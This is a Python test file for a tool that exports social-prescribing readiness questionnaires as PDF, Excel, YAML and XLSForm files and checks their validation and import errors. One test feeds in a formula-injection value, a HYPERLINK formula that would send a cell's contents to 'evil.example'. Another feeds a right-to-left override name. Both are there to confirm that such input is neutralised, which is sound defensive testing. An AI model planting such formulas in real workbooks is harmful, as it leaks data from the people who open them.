"""Questionnaires out: what each format holds, and clear refusals."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pypdf
import pytest

from readiness.collect.importer import import_files
from readiness.collect.questionnaire import build_questionnaire, field_name
from readiness.errors import InputError, ReadinessError
from readiness.framework.load import load_catalogue
from readiness.vocabulary import ROLES

from ..helpers import RunCli, needs, pdf_catalog

CATALOGUE = load_catalogue()
NPT = CATALOGUE.frameworks["npt"]


FRAMEWORKS = list(CATALOGUE.frameworks.values())


def test_questionnaire_pdf_has_no_buttons_and_names_every_field(tmp_path: Path) -> None:
    from readiness.collect.pdf_form import render_pdf_form

    questionnaire = build_questionnaire(FRAMEWORKS, "gp")
    form = tmp_path / "q.pdf"
    form.write_bytes(render_pdf_form(questionnaire))
    fields = pypdf.PdfReader(form).get_fields() or {}
    answers = {field_name(s.framework, i) for s in questionnaire.sections for i in s.items}
    # One comment box per domain (issue 21): the comment field of the domain's first item.
    comments = {
        field_name(s.framework, d.items[0], "comment")
        for s in questionnaire.sections
        for d in s.domains
    }
    respondent = {"rd~respondent~id", "rd~respondent~role", "rd~respondent~comment"}
    assert set(fields) == answers | comments | respondent
    assert not any("." in name for name in fields)  # dots would nest PDF field names
    text = "".join(page.extract_text() for page in pypdf.PdfReader(form).pages)
    assert "How your answers are used" in text
    assert text.count("How your answers are used") == 1  # said once for all frameworks


def test_workbook_has_lists_locks_and_no_formulas(tmp_path: Path, run_cli: RunCli) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "q.xlsx"
    assert (
        run_cli(
            "questionnaire", "five-mechanisms", "npt", "--role", "gp", "--format", "xlsx", "-o", out
        ).exit_code
        == 0
    )
    wb = load_workbook(out)
    # What five-mechanisms reuses from delivery-conditions (a fact) and rainbow (role clarity)
    # is asked once, under its home.
    # Sheets are named in words (issue 21), cut at a word to Excel's 31 characters; the
    # frameworks that ask a GP one question each (DC27, PR2) join the largest sheet rather
    # than hide in tabs of their own.
    assert wb.sheetnames == [
        "Instructions",
        "_lists",
        "Five mechanisms for social",
        "Is social prescribing becoming",
        "_readiness",
    ]
    largest = wb["Is social prescribing becoming"]
    fields = [str(largest.cell(r, 7).value) for r in range(2, largest.max_row + 1)]
    sheet = wb["Five mechanisms for social"]
    assert "rd~delivery-conditions~v3_0_0~DC27~answer" in fields
    assert "rd~rainbow~v3_0_0~PR2~answer" in fields
    assert sheet.protection.sheet
    assert sheet.column_dimensions["G"].hidden and sheet.column_dimensions["H"].hidden
    assert sheet["C2"].protection.locked and not sheet["D2"].protection.locked
    assert sheet["G2"].value == "rd~five-mechanisms~v3_0_0~SD1~answer"
    assert sheet["H2"].value == "3.0.0"
    validations = sheet.data_validations.dataValidation
    # Drop-downs and the comments' length: no figures asked here.
    assert {v.type for v in validations} == {"list", "textLength"}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert not (isinstance(cell.value, str) and cell.value.startswith("="))
    assert wb["_lists"].sheet_state == "hidden"
    # Rows tall enough for their text (the privacy statement is not cut off), and a print
    # set-up: A4, fitted to the page width, the header row on every page.
    intro = wb["Instructions"]
    privacy = next(r for r in range(1, 12) if "shown" in str(intro.cell(r, 1).value or ""))
    assert intro.row_dimensions[privacy].height >= 15 * 6
    long_row = max(range(2, sheet.max_row + 1), key=lambda r: len(str(sheet.cell(r, 3).value)))
    assert sheet.row_dimensions[long_row].height > 15
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"


def test_an_unknown_role_is_refused_naming_the_roles() -> None:
    with pytest.raises(ReadinessError) as raised:
        build_questionnaire(FRAMEWORKS, "gp_partner")
    assert str(raised.value).startswith(
        "unknown role 'gp_partner' (did you mean 'gp'?); use one of: gp, practice_nurse,"
    )


def test_questionnaire_errors(run_cli: RunCli, tmp_path: Path) -> None:
    result = run_cli(
        "questionnaire",
        "rainbow",
        "--role",
        "doctor",
        "--format",
        "yaml",
        "-o",
        tmp_path / "q.yaml",
    )
    assert result.exit_code == 1 and "unknown role 'doctor'" in result.err
    result = run_cli(
        "questionnaire", "npt", "--role", "client", "--format", "yaml", "-o", tmp_path / "q.yaml"
    )
    assert result.exit_code == 1
    assert result.err == "error: none of these frameworks asks anything of the role 'client'\n"
    assert not (tmp_path / "q.yaml").exists()
    result = run_cli("questionnaire", "nptt", "--format", "pdf", "-o", tmp_path / "q.pdf")
    assert result.exit_code == 1 and "did you mean 'npt'" in result.err
    # five-mechanisms 3.0.0 asks facts of delivery-conditions 3.0.0: with 1.0.0 as well, one
    # file would hold two versions of delivery-conditions, which no import can read back.
    mixed = tmp_path / "mixed.yaml"
    result = run_cli(
        "questionnaire", "delivery-conditions@1.0.0", "five-mechanisms", "--format", "yaml",
        "-o", mixed,
    )  # fmt: skip
    assert result.exit_code == 1
    assert "would ask delivery-conditions at two versions (1.0.0 and 3.0.0" in result.err
    assert not mixed.exists()


def test_pdf_for_another_framework_version_is_refused(tmp_path: Path) -> None:
    from readiness.collect.pdf_form import render_pdf_form

    npt = CATALOGUE.frameworks["npt"]
    older = dataclasses.replace(npt, version="0.9")
    form = tmp_path / "old.pdf"
    form.write_bytes(render_pdf_form(build_questionnaire([older], "gp")))
    with pytest.raises(InputError) as info:
        import_files([form], tmp_path / "site", CATALOGUE, site="S")
    assert "these answers are for npt version 0.9, which is not installed (installed: 1.0.0, " in (
        str(info.value)
    )


def test_workbooks_are_parsed_with_defusedxml() -> None:
    import openpyxl

    assert openpyxl.DEFUSEDXML, "install defusedxml: openpyxl then refuses XML entity bombs"


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(
    tmp_path: Path, run_cli: RunCli
) -> None:
    import zipfile

    from openpyxl import load_workbook

    site = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    out = tmp_path / "q.xlsx"
    result = run_cli("questionnaire", "npt", "--site", site, "--format", "xlsx", "-o", out)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    assert b"<f>" not in xml and b"<f " not in xml  # not a single formula cell
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.value for c in cells if c.value == site] == [site, site]  # intro and metadata
    assert all(c.data_type != "f" for c in cells)


def _fill(form: Path, target: Path, values: dict[str, str]) -> None:
    import subprocess

    body = "".join(
        f'<field name="{name}"><value>{value}</value></field>' for name, value in values.items()
    )
    xfdf = target.with_suffix(".xfdf")
    xfdf.write_text(
        '<?xml version="1.0" encoding="UTF-8"?><xfdf xmlns="http://ns.adobe.com/xfdf/" '
        f'xml:space="preserve"><fields>{body}</fields></xfdf>',
        encoding="utf-8",
    )
    subprocess.run(
        ["pdftk", str(form), "fill_form", str(xfdf), "output", str(target)],
        check=True,
        capture_output=True,
        timeout=120,
    )


def _ink(pdf: Path, tmp_path: Path) -> bytes:
    """Page 1 rendered by poppler, in greyscale."""
    import subprocess

    prefix = tmp_path / pdf.stem
    subprocess.run(
        ["pdftoppm", "-gray", "-r", "60", "-f", "1", "-l", "1", str(pdf), str(prefix)],
        check=True,
        timeout=60,
    )
    return next(tmp_path.glob(f"{pdf.stem}*.pgm")).read_bytes()


@pytest.mark.slow
@needs("pdftk")
@needs("pdftoppm")
def test_text_filled_by_pdftk_is_drawn_by_poppler_in_a_font_it_has(tmp_path: Path) -> None:
    from readiness.collect.pdf_form import ID_FIELD, render_pdf_form

    form = tmp_path / "q.pdf"
    form.write_bytes(render_pdf_form(build_questionnaire(FRAMEWORKS[:1], "gp")))
    thin, wide = tmp_path / "thin.pdf", tmp_path / "wide.pdf"
    _fill(form, thin, {ID_FIELD: "iiiiiiii"})
    _fill(form, wide, {ID_FIELD: "WWWWWWWW"})
    # Empty boxes (a font without the glyphs) would look the same for both texts.
    blank, drawn_thin, drawn_wide = (_ink(p, tmp_path) for p in (form, thin, wide))
    assert drawn_thin != blank and drawn_wide != blank and drawn_thin != drawn_wide
    ink = [sum(255 - b for b in image[20:]) for image in (drawn_thin, drawn_wide)]
    assert ink[1] > ink[0]  # W is wider than i: real glyphs were drawn
    field = next(
        f.get_object()
        for f in pdf_catalog(pypdf.PdfReader(wide))["/AcroForm"]["/Fields"]
        if f.get_object()["/T"] == ID_FIELD
    )
    fonts = field["/AP"]["/N"]["/Resources"]["/Font"]
    assert {str(f.get_object()["/BaseFont"]) for f in fonts.values()} == {"/Helvetica"}


@pytest.mark.slow
@needs("qpdf")
def test_the_form_is_a_clean_tagged_field_tree_with_a_tooltip_per_field(tmp_path: Path) -> None:
    import subprocess

    from readiness.collect.pdf_form import render_pdf_form

    form = tmp_path / "q.pdf"
    questionnaire = build_questionnaire(FRAMEWORKS, None, "Test site")
    form.write_bytes(render_pdf_form(questionnaire))
    reader = pypdf.PdfReader(form)
    root = pdf_catalog(reader)
    fields = [f.get_object() for f in root["/AcroForm"]["/Fields"]]
    assert not [f for f in fields if "/Parent" in f]  # top-level fields only
    assert all(str(f["/TU"]) != str(f["/T"]) and str(f["/TU"]).strip() for f in fields)
    sd1 = next(f for f in fields if str(f["/T"]).endswith("~SD1~answer"))
    assert str(sd1["/TU"]) == "SD1. " + CATALOGUE.frameworks["five-mechanisms"].items["SD1"].text
    assert root["/MarkInfo"]["/Marked"] and str(root["/Lang"]) == "en-GB"
    assert "/StructTreeRoot" in root
    generated = subprocess.run(
        ["qpdf", "--generate-appearances", str(form), str(tmp_path / "g.pdf")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert generated.returncode == 0, generated.stderr
    assert "loop" not in generated.stderr.lower(), generated.stderr
    text = "".join(page.extract_text() for page in reader.pages)
    assert "For: GP, Practice nurse" in text and "lw manager" not in text  # role labels


def test_the_yaml_form_says_what_each_unclear_code_means(tmp_path: Path, run_cli: RunCli) -> None:
    """Someone keying in a paper form needs each level's meaning beside its code (issue 21);
    codes that are their own label (agree, yes) are not repeated."""
    out = tmp_path / "lw.yaml"
    result = run_cli(
        "questionnaire",
        "delivery-conditions",
        "--role",
        "link_worker",
        "--format",
        "yaml",
        "-o",
        out,
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    for line in (
        "#   L0 = Level 0: no access",
        "#   L5 = Level 5: read and write at all practices",
        "#   neutral = Neither agree nor disagree",
    ):
        assert line in text
    assert "#   agree = Agree" not in text and "#   yes = " not in text


def test_every_roles_questionnaire_at_once(tmp_path: Path, run_cli: RunCli) -> None:
    """Issue 21: one command writes each role's questionnaire in every format asked; a role
    the frameworks ask nothing of gets none, and says so."""
    out = tmp_path / "forms"
    result = run_cli(
        "questionnaire",
        "npt",
        "--all-roles",
        "--out-dir",
        out,
        "--format",
        "yaml",
        "--format",
        "xlsx",
    )
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.iterdir())
    asked = [r for r in ROLES if build_questionnaire([NPT], r, None).item_count]
    assert names == sorted(f"{r}.{ext}" for r in asked for ext in ("yaml", "xlsx"))
    assert "client.yaml" not in names
    assert "No questionnaire for " in result.err and "Service user (client)" in result.err
    gp = (out / "gp.yaml").read_text(encoding="utf-8")
    assert "role: gp" in gp
    # -o and --all-roles do not mix; a file where the folder should be is refused.
    assert (
        run_cli(
            "questionnaire", "npt", "--all-roles", "--format", "pdf", "-o", tmp_path / "x.pdf"
        ).exit_code
        == 2
    )
    blocker = tmp_path / "file"
    blocker.write_text("not a folder", encoding="utf-8")
    result = run_cli(
        "questionnaire", "npt", "--all-roles", "--out-dir", blocker, "--format", "yaml"
    )
    assert result.exit_code == 1 and "is a file" in result.err
    assert blocker.read_text(encoding="utf-8") == "not a folder"


def test_the_workbook_checks_figures_where_they_are_typed(tmp_path: Path, run_cli: RunCli) -> None:
    """Issue 21: "45 minutes" or an out-of-range figure is caught in the workbook, not weeks
    later at import; don't know stays possible."""
    from openpyxl import load_workbook

    out = tmp_path / "lw.xlsx"
    result = run_cli(
        "questionnaire",
        "delivery-conditions",
        "--role",
        "link_worker",
        "--format",
        "xlsx",
        "-o",
        out,
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out)["Conditions for good delivery"]
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == "DC2")
    cell = f"D{row}"
    (check,) = [v for v in sheet.data_validations.dataValidation if cell in v.sqref]
    assert check.type == "custom" and check.showErrorMessage
    number = f"AND(ISNUMBER({cell}),{cell}>=0,{cell}<=600)"
    assert check.formula1 == f'OR({number},{cell}="Don\'t know")'
    assert "without units from 0 to 600" in check.error


@needs("node")
def test_the_pdf_form_checks_figures_where_they_are_typed(tmp_path: Path, run_cli: RunCli) -> None:
    """Issue 21: a figure's field carries a validating script (run by Acrobat and Firefox's
    pdf.js); run here in Node with the viewer's `event` and `app` stood in."""
    import json
    import shutil
    import subprocess

    out = tmp_path / "lw.pdf"
    result = run_cli(
        "questionnaire",
        "delivery-conditions",
        "--role",
        "link_worker",
        "--format",
        "pdf",
        "-o",
        out,
    )
    assert result.exit_code == 0, result.output
    reader = pypdf.PdfReader(out)
    name = "rd~delivery-conditions~v3_0_0~DC2~answer"
    (widget,) = [
        a.get_object()
        for page in reader.pages
        for a in page.get("/Annots") or []
        if a.get_object().get("/T") == name
    ]
    script = str(widget["/AA"]["/V"]["/JS"])
    cases = {
        "45": True,
        " 30 ": True,
        "": True,
        "Don't know": True,
        "don\u2019t know": True,
        "45 minutes": False,
        "700": False,
        "-1": False,
        "many": False,
    }
    runner = (
        "const script = " + json.dumps(script) + ";"
        "const out = {};"
        "for (const value of " + json.dumps(list(cases)) + ") {"
        "  const event = { value, rc: true }; let said = null;"
        "  const app = { alert: (m) => { said = m; } };"
        "  new Function('event', 'app', script)(event, app);"
        "  out[value] = event.rc && said === null;"
        "}"
        "console.log(JSON.stringify(out));"
    )
    node = shutil.which("node")
    assert node is not None
    done = subprocess.run([node, "-e", runner], capture_output=True, text=True, check=True)
    assert json.loads(done.stdout) == cases


def test_a_pdf_import_message_names_the_page(tmp_path: Path, run_cli: RunCli) -> None:
    """Issue 21: someone holding the paper form needs the page, not only the field."""
    form = tmp_path / "lw.pdf"
    args = ("questionnaire", "delivery-conditions", "--role", "link_worker", "--format", "pdf")
    assert run_cli(*args, "-o", form).exit_code == 0
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(form))
    values = {"rd~respondent~id": "x1", "rd~delivery-conditions~v3_0_0~DC2~answer": "45 min"}
    writer.update_page_form_field_values(None, values, auto_regenerate=False)
    filled = tmp_path / "filled.pdf"
    writer.write(filled)
    result = run_cli("import", filled, "--into", tmp_path / "site", "--site", "T")
    assert result.exit_code == 1
    assert "field DC2 on page 1: '45 min'" in result.err


def test_a_message_about_a_domains_comment_box_names_the_box(
    tmp_path: Path, run_cli: RunCli
) -> None:
    """A domain's comments box is its first item's comment field; a message about what was
    written in it names the box as the respondent saw it, and its page."""
    form = tmp_path / "lw.pdf"
    args = ("questionnaire", "delivery-conditions", "--role", "link_worker", "--format", "pdf")
    assert run_cli(*args, "-o", form).exit_code == 0
    reader = pypdf.PdfReader(form)
    name, box = next(
        (n, f) for n, f in (reader.get_fields() or {}).items() if n.endswith("~comment")
    )
    writer = pypdf.PdfWriter(clone_from=reader)
    values = {"rd~respondent~id": "x1", name: "x" * 2001}
    writer.update_page_form_field_values(None, values, auto_regenerate=False)
    filled = tmp_path / "filled.pdf"
    writer.write(filled)
    result = run_cli("import", filled, "--into", tmp_path / "site", "--site", "T")
    assert result.exit_code == 1
    assert f"the box {str(box['/TU'])!r} on page 1" in result.err


def test_a_sheet_added_to_the_workbook_is_not_silently_dropped(
    tmp_path: Path, run_cli: RunCli
) -> None:
    """A respondent who adds a sheet of notes would lose them (only the questionnaire's own
    cells are read): the import is refused, naming the sheet. An added sheet left empty is
    no problem."""
    from openpyxl import load_workbook

    form = tmp_path / "q.xlsx"
    made = run_cli("questionnaire", "npt", "--role", "gp", "--format", "xlsx", "-o", form)
    assert made.exit_code == 0
    wb = load_workbook(form)
    wb.create_sheet("My notes")["A1"] = "What I really think"
    wb.save(tmp_path / "notes.xlsx")
    result = run_cli("import", tmp_path / "notes.xlsx", "--into", tmp_path / "site", "--site", "S")
    assert result.exit_code == 1
    assert "notes.xlsx: My notes: this sheet is not part of the questionnaire" in result.err
    wb["My notes"]["A1"] = None
    wb.save(tmp_path / "empty.xlsx")
    result = run_cli("import", tmp_path / "empty.xlsx", "--into", tmp_path / "site", "--site", "S")
    assert "My notes" not in result.err
    assert not (tmp_path / "site").exists()


def test_the_workbooks_drop_downs_are_given_their_cells_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each drop-down gets all its cells in one step: adding them one by one checked each
    against every cell before it, so 4,000 questions took 8.5 s (1,000: 1.3 s). The cells
    are the same either way."""
    from openpyxl import load_workbook
    from openpyxl.worksheet.cell_range import MultiCellRange

    from readiness.collect.workbook import render_workbook

    added: list[object] = []
    real = MultiCellRange.add

    def counted(self: MultiCellRange, coord: object) -> None:
        added.append(coord)
        real(self, coord)

    monkeypatch.setattr(MultiCellRange, "add", counted)
    frameworks = [CATALOGUE.require(f) for f in ("five-mechanisms", "npt", "delivery-conditions")]
    questionnaire = build_questionnaire(frameworks, None)
    out = tmp_path / "all.xlsx"
    out.write_bytes(render_workbook(questionnaire))
    numeric = sum(
        1
        for s in questionnaire.sections
        for d in s.domains
        for i in d.items
        if i.scale.type == "numeric"
    )
    # The role's cell, each figure's own check and a few merged title cells: not a step per
    # question.
    assert len(added) <= numeric + 10 < questionnaire.item_count
    cells = sum(
        len(list(cell_range.cells))
        for sheet in load_workbook(out).worksheets
        for validation in sheet.data_validations.dataValidation
        for cell_range in validation.sqref.ranges
    )
    # Every answer cell and every comment cell, the role's and the general comment's.
    assert cells == 2 * questionnaire.item_count + 2


def test_a_name_with_a_right_to_left_override_reverses_only_itself() -> None:
    """--site "Hill <RLO>evil" reversed the rest of every sentence that said it (the PDF's
    introduction read backwards): the name is fenced off where it is said, in every form."""
    from readiness.textmatch import FIRST_STRONG_ISOLATE, POP_DIRECTIONAL_ISOLATE

    name = "Hill \u202eevil"
    fenced = f"{FIRST_STRONG_ISOLATE}{name}{POP_DIRECTIONAL_ISOLATE}"
    catalogue = load_catalogue()
    questionnaire = build_questionnaire(
        [catalogue.require("five-mechanisms")], "client", name, f"Help{chr(0x202E)}ers"
    )
    said = " ".join(questionnaire.intro()) + " " + questionnaire.title
    assert fenced in said and name not in said.replace(fenced, "")
    client_items = " ".join(i.text for s in questionnaire.sections for i in s.items)
    assert f"{FIRST_STRONG_ISOLATE}Help\u202eers{POP_DIRECTIONAL_ISOLATE}" in client_items


def test_every_comment_box_stops_at_the_length_an_import_accepts(
    tmp_path: Path, run_cli: RunCli
) -> None:
    """A comment over MAX_COMMENT characters is refused at import, after the respondent has
    gone: each form stops it where it is typed instead (PDF /MaxLen, a workbook's text-length
    check, an XLSForm constraint), on every comment box and the general one."""
    import io
    import re

    from openpyxl import load_workbook
    from pyxform.xls2xform import convert

    from readiness.assessment.format import MAX_COMMENT

    args = ("questionnaire", "npt", "five-mechanisms", "--role", "gp", "--format")
    for kind in ("pdf", "xlsx", "xlsform"):
        assert run_cli(*args, kind, "-o", tmp_path / f"gp.{kind}").exit_code == 0

    reader = pypdf.PdfReader(tmp_path / "gp.pdf")
    comment_fields = {name for name in reader.get_fields() or {} if name.endswith("comment")}
    limited = {
        f.get_object()["/T"]
        for f in pdf_catalog(reader)["/AcroForm"]["/Fields"]
        if f.get_object().get("/MaxLen") == MAX_COMMENT
    }
    assert len(comment_fields) > 5 and "rd~respondent~comment" in comment_fields
    assert limited == comment_fields

    wb = load_workbook(tmp_path / "gp.xlsx")
    for sheet in wb.worksheets:
        header = [c.value for c in sheet[1]]
        if "Comment (optional)" in header:
            wanted = {f"E{row}" for row in range(2, sheet.max_row + 1)}
        elif sheet.title == "Instructions":
            label = "Any other comments (optional)"
            wanted = {f"B{r[0].row}" for r in sheet.iter_rows() if r[0].value == label}
        else:
            continue
        checks = [v for v in sheet.data_validations.dataValidation if v.type == "textLength"]
        assert [(v.operator, v.formula1, v.showErrorMessage) for v in checks] == [
            ("lessThanOrEqual", str(MAX_COMMENT), True)
        ]
        assert {cell for r in checks[0].sqref.ranges for cell in _cells(r)} == wanted

    xform = convert(
        xlsform=io.BytesIO((tmp_path / "gp.xlsform").read_bytes()),
        validate=False,
        file_type=".xlsx",
    ).xform
    limit = f'constraint="string-length(.) &lt;= {MAX_COMMENT}"'
    binds = re.findall(r"<bind [^>]*>", xform)
    comment_binds = [b for b in binds if 'comment" ' in b]
    assert len(comment_binds) > 20 and "/data/general_comment" in " ".join(comment_binds)
    assert [b for b in binds if limit in b] == comment_binds


def _cells(cell_range: object) -> list[str]:
    """The cells of an openpyxl CellRange, as A1 references."""
    from openpyxl.utils import get_column_letter

    bounds = cell_range.bounds  # type: ignore[attr-defined]
    return [
        f"{get_column_letter(col)}{row}"
        for row in range(bounds[1], bounds[3] + 1)
        for col in range(bounds[0], bounds[2] + 1)
    ]


def test_a_framework_named_twice_is_asked_once(tmp_path: Path, run_cli: RunCli) -> None:
    """helper-46: `questionnaire npt npt` asked every question twice, and its YAML form, with
    `npt:` twice, could never be imported. Named twice, a framework is asked once; at two
    versions, refused (a form asks one version of each)."""
    once, twice = tmp_path / "once.yaml", tmp_path / "twice.yaml"
    args = ("--role", "gp", "--format", "yaml")
    assert run_cli("questionnaire", "npt", *args, "-o", once).exit_code == 0
    assert run_cli("questionnaire", "npt", "npt", *args, "-o", twice).exit_code == 0
    assert twice.read_bytes() == once.read_bytes()
    both = run_cli("questionnaire", "npt", "npt@1.0.0", *args, "-o", tmp_path / "v.yaml")
    assert both.exit_code == 1
    assert "npt is named at two versions (3.0.0 and 1.0.0)" in both.err
    assert not (tmp_path / "v.yaml").exists()
    out = tmp_path / "all"
    every = ("--all-roles", "--format", "yaml", "--out-dir", out)
    assert run_cli("questionnaire", "npt", "npt", *every).exit_code == 0
    assert (out / "gp.yaml").read_bytes() == once.read_bytes()
